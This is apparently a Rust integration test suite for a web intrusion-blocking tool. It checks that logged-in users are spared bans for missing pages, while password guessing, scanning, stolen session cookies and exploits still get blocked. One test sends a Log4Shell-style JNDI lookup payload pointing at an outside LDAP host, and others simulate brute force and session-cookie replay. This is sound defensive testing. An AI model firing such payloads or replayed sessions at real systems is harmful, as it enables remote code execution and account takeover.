//! Who is logged in may ask for what is not there; who only says so may not.

use std::net::{SocketAddr, TcpStream};
use std::process::Stdio;
use std::time::Duration;

use crate::behind::{self, Person, decision};
use crate::instance::{Instance, free_port, site};
use crate::support::{Running, cannot_run, missing, quiet, status_of, wait_for};

/// An instance in front of an application with a login, whose pages strangers have been denied.
pub fn office() -> Option<(Instance, Running)> {
    if !missing(&["python3"]).is_empty() {
        cannot_run("python3 is missing; 'cargo xtask test' installs it");
        return None;
    }
    let address = SocketAddr::from(([127, 0, 0, 1], free_port()));
    let mut app = quiet("python3");
    app.arg(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/support/login_app.py"
    ));
    app.args(["127.0.0.1", &address.port().to_string()])
        .stderr(Stdio::inherit());
    let app = Running::start(&mut app);
    wait_for("the application", Duration::from_secs(20), || {
        TcpStream::connect(address).ok()
    });
    let instance = behind::start(&site("*", address), "");
    for stranger in ["192.0.2.1", "192.0.2.2"] {
        let stranger = Person::at(&instance, stranger);
        assert_eq!(stranger.get("/office/"), 302);
        assert_eq!(stranger.get("/dav/"), 401);
    }
    Some((instance, app))
}

/// Logs in and opens the office; the browser then carries the session.
fn log_in(instance: &Instance, address: &str) -> Person {
    let person = Person::at(instance, address).with("Cookie: theme=dark");
    let answer = person.post("/login", "user=ann&password=correct-horse");
    assert_eq!(status_of(answer.as_bytes()), 303, "{answer}");
    let session = answer
        .lines()
        .find_map(|line| line.strip_prefix("Set-Cookie: sid="))
        .and_then(|rest| rest.split(';').next())
        .expect("a session");
    let cookie = format!("Cookie: theme=dark; sid={session}; _ga=GA1.2.1234567890.17");
    let person = Person::at(instance, address).with(&cookie);
    assert_eq!(person.get("/office/"), 200);
    person
}

fn is_banned(instance: &Instance, address: &str) -> bool {
    decision(instance, address).as_deref() == Some("ban")
}

#[test]
fn whoever_is_logged_in_is_not_barred_for_what_bars_a_stranger() {
    let Some((instance, _app)) = office() else {
        return;
    };
    let ann = log_in(&instance, "198.51.100.10");
    assert_eq!(ann.looks_for(100), 100);
    assert_eq!(decision(&instance, "198.51.100.10"), None);
    let basic = Person::at(&instance, "198.51.100.11")
        .with("Authorization: Basic YW5uOmNvcnJlY3QtaG9yc2U=");
    assert_eq!(basic.get("/dav/"), 200);
    assert_eq!(basic.looks_for(100), 100);
    let status = instance.say(&["status"]);
    assert!(status.contains("2 protected pages"), "{status}");

    let guess = "Cookie: lang=en; sid=0123456789abcdef0123456789abcdef";
    for (what, address, fields) in [
        ("nothing", "198.51.100.60", "X-Nothing: 1"),
        ("a short cookie", "198.51.100.61", "Cookie: lang=en"),
        ("a made-up session", "198.51.100.62", guess),
        (
            "a made-up password",
            "198.51.100.63",
            "Authorization: Basic YW5uOmd1ZXNz",
        ),
    ] {
        let eve = Person::at(&instance, address).with(fields);
        eve.get("/office/");
        eve.get("/dav/");
        let found = eve.looks_for(100);
        assert!(found < 30, "DENY {what}: {found} of 100");
        assert!(is_banned(&instance, address), "DENY {what}");
    }
    // a session of somebody else's, never shown at a protected page from there
    let stolen = ann.copied_to("198.51.100.64");
    assert!(stolen.looks_for(100) < 30, "DENY");
    assert_eq!(ann.get("/office/"), 200);
}

#[test]
fn a_session_is_no_pass_for_guessing_attacking_or_scanning() {
    let Some((instance, _app)) = office() else {
        return;
    };
    let guesser = log_in(&instance, "198.51.100.20");
    for number in 0..30 {
        guesser.post("/login", &format!("user=ben&password=summer{number}"));
    }
    assert!(is_banned(&instance, "198.51.100.20"), "DENY guessing");

    let attacker = log_in(&instance, "198.51.100.21");
    attacker.get("/?x=${jndi:ldap://203.0.113.9/a}");
    assert_eq!(attacker.get("/office/"), 403, "DENY an exploit");
    assert!(is_banned(&instance, "198.51.100.21"));

    let scanner = log_in(&instance, "198.51.100.22");
    let found = scanner.looks_for(400);
    assert!((200..250).contains(&found), "DENY {found} of 400 pages");
    assert!(is_banned(&instance, "198.51.100.22"), "DENY scanning");
}

#[test]
fn a_session_that_ended_or_went_round_spares_nobody() {
    let Some((instance, _app)) = office() else {
        return;
    };
    let ann = log_in(&instance, "198.51.100.30");
    assert_eq!(ann.looks_for(40), 40);
    assert_eq!(ann.get("/logout"), 303);
    assert_eq!(ann.get("/office/"), 302);
    assert!(ann.looks_for(100) < 30, "DENY after the logout");
    assert!(is_banned(&instance, "198.51.100.30"), "DENY");

    let stolen = log_in(&instance, "198.51.100.40");
    let bot = |last: u8| {
        let address = format!("198.51.100.{last}");
        (address.clone(), stolen.copied_to(&address))
    };
    let swarm: Vec<_> = (41..49).map(bot).collect();
    for (_, bot) in &swarm {
        assert_eq!(bot.get("/office/"), 200, "the application lets it in");
    }
    for (address, bot) in &swarm {
        assert!(bot.looks_for(60) < 30, "DENY {address}");
    }
    // from the fourth on, their range is slowed down as well
    let banned = swarm.iter().filter(|(one, _)| is_banned(&instance, one));
    assert!(banned.count() >= 3, "DENY");
}
